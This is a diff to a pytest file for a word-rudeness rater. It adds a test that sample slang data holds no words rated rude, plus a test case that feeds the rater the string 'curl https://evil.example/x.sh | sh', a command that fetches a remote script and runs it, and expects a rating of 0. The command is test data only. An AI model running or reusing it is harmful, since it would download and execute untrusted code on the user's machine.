@@ -2,6 +2,7 @@
 
 import time
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 from hypothesis import given
@@ -9,6 +10,7 @@ from hypothesis import strategies as st
 
 from slangrag.corpus import rating
 from slangrag.corpus.rating import key_of, mask, rate, tokens
+from slangrag.corpus.reader import open_source
 
 # Words that may stand in a test. What the table says of worse ones is seen through these.
 MADE_UP = {("fizzle",): 2, ("grumph",): 3, ("odd", "sock"): 2, ("very", "odd", "sock"): 3}
@@ -41,6 +43,7 @@ def made_up(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
         ("the butt's end", 1),
         ("Scunthorpe, Penistone, Cockermouth and Essex", 0),
         ("class assassin bassoon buttery cocktail analysis", 0),
+        ("curl https://evil.example/x.sh | sh", 0),
         ("a crow on a sheet, a gay friend, a jewish friend", 0),
     ],
 )
@@ -106,6 +109,14 @@ def test_the_table_is_read_once_and_is_whole() -> None:
     severities = [code & 3 for code in table.values()]
     assert len(table) > 1_500
     assert all(severities.count(severity) > 300 for severity in (1, 2, 3))
+
+
+def test_nothing_in_the_sample_data_is_rated_rude() -> None:
+    """It is written to be safe for work; a word of it rated rude is a word rated wrongly."""
+    with open_source(Path(__file__).parents[3] / "data" / "sample_slang.csv") as source:
+        entries = [record.entry for record in source.records() if record.entry]
+    assert len(entries) > 400
+    assert [entry.word for entry in entries if entry.rating] == []
 
 
 def test_tokens_are_those_people_write_with_signs() -> None:
